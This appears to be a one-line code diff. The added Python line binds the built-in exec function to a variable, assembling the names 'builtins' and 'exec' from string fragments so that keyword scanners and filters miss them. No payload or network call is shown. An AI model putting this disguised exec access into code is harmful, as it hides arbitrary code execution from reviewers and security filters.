@@ -1,0 +1,1 @@
+f = getattr(__import__("built" + "ins"), "ex" + "ec")
